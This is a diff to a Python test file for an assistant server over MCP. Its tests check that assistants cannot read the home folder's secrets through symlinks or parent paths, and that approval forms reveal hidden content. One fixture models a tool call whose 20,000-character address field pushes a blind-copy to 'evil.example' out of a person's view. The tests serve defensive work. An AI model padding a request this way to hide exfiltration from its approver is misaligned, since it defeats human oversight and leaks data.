@@ -1,5 +1,6 @@
 """What an assistant tries over MCP that nobody allowed: to spend more, to read elsewhere, to see what others have."""
 
+import json
 import logging
 from collections.abc import AsyncGenerator
 from contextlib import asynccontextmanager
@@ -15,16 +16,21 @@ from mcp.types import TextContent
 from tests.attacks.test_attacks_pages import ACCESS, BEARER, HERE, NO_SERVER, SITE
 from tests.ended_tasks import row_of
 from waystation.adapters.clock import utc_now
+from waystation.adapters.documents.sources import load_documents
 from waystation.adapters.store import SqlStore
 from waystation.client import Client
 from waystation.domain.amount import Amount, Limit
+from waystation.domain.budget import Usage
+from waystation.domain.decisions import question_on
 from waystation.domain.errors import BadInput
-from waystation.domain.task import BudgetProgress, SourceDocument, TaskPhase, TaskRequest
+from waystation.domain.plan import PLANNING_ID
+from waystation.domain.task import Approval, BudgetProgress, SourceDocument, StepProgress, TaskPhase, TaskRequest
+from waystation.domain.transcript import ToolUse
 from waystation.serve.app import LetIn, application
 from waystation.serve.assistants import Assistant, AssistantRights
-from waystation.serve.mcp import AssistantServer
+from waystation.serve.mcp import AssistantServer, status_text
 from waystation.settings import Settings
-from waystation.task_view import as_stored
+from waystation.task_view import TaskView, as_stored
 from workers.memory import MemoryReader
 
 OWN, OTHER = "mcp-assistant", "private"
@@ -134,6 +140,33 @@ async def test_without_roots_nothing_is_read_and_the_home_folder_never(tmp_path:
         AssistantRights.of(settings, [tmp_path / "missing"])
 
 
+@pytest.mark.parametrize("path", [".", "all", "all/.."])
+async def test_of_a_folder_that_has_the_home_folder_everything_but_that_is_read(
+    path: str, tmp_path: Path, settings: Settings
+) -> None:
+    (settings.home / "reports").mkdir(parents=True)
+    for name in ("all/a.md", "home/config.toml", "home/reports/task.md"):
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).write_text(SECRET)
+    (tmp_path / "all" / "link.toml").symlink_to(settings.home / "config.toml")
+    (tmp_path / "all" / "linked").symlink_to(settings.home)
+    rights = AssistantRights.of(settings, [tmp_path])
+    read = load_documents([rights.readable(path)], without=rights.home)
+    assert {one.name.rpartition("/")[2] for one in read.documents} == {"a.md"}
+    if path != "all":
+        assert ("home", "of the home folder of Waystation") in {(one.name, one.reason) for one in read.left_out}
+
+
+async def test_an_assistant_has_nothing_of_the_home_folder_by_a_folder_above_it(
+    tmp_path: Path, settings: Settings
+) -> None:
+    settings.home.mkdir()
+    (settings.home / "config.toml").write_text(SECRET)
+    async with assisted(settings, tmp_path) as asking:
+        said = await submitting(asking, path=".")
+    assert "no file in it can be read (home: of the home folder of Waystation)" in said
+
+
 @pytest.mark.parametrize(
     "address",
     [
@@ -177,6 +210,37 @@ async def test_tasks_of_others_are_as_unknown_as_those_that_never_were(settings:
         waiting = await asking.call_tool("list_approvals", {})
     assert listed.resources == []
     assert waiting.structured_content == {"requests": []}
+
+
+def asking_for(request: Approval, settings: Settings) -> str:
+    """How an assistant, and the person whom it shows a form, read of such a request."""
+    row = row_of(TaskRequest(question="Why?", session=OWN, request_id="1"), settings, "store")
+    step = StepProgress(
+        id="research-1",
+        role="research",
+        title="Ask the harbour master",
+        state="waiting",
+        legs=0,
+        usage=Usage(),
+        limit=Limit(tokens=5_000),
+    )
+    progress = as_stored(row, TaskPhase.WORKING).model_copy(update={"approvals": (request,), "steps": (step,)})
+    return status_text(TaskView(progress=progress))
+
+
+def test_a_person_is_told_that_a_call_has_more_than_is_shown(settings: Settings) -> None:
+    call = ToolUse(id="c1", name="send_letter", input={"to": "x" * 20_000, "bcc": "evil.example"})
+    action = question_on("m1", call, json.dumps(call.input))
+    nothing = Amount()
+    asked = Approval(request_id="r-1", agent="research-1", asked=nothing, needed=nothing, action=action)
+    said = asking_for(asked, settings)
+    assert "evil.example" not in said
+    assert f"{action.hidden:,} more characters are not shown: `waystation transcript" in said
+
+
+def test_a_person_agrees_to_no_plan_whose_steps_are_not_shown(settings: Settings) -> None:
+    asked = Approval(request_id="plan-1", agent=PLANNING_ID, asked=Amount(), needed=Amount(), steps_left=1)
+    assert "research: Ask the harbour master, with 5,000 tokens" in asking_for(asked, settings)
 
 
 async def test_another_tenant_sees_nothing_under_the_same_name(settings: Settings) -> None:
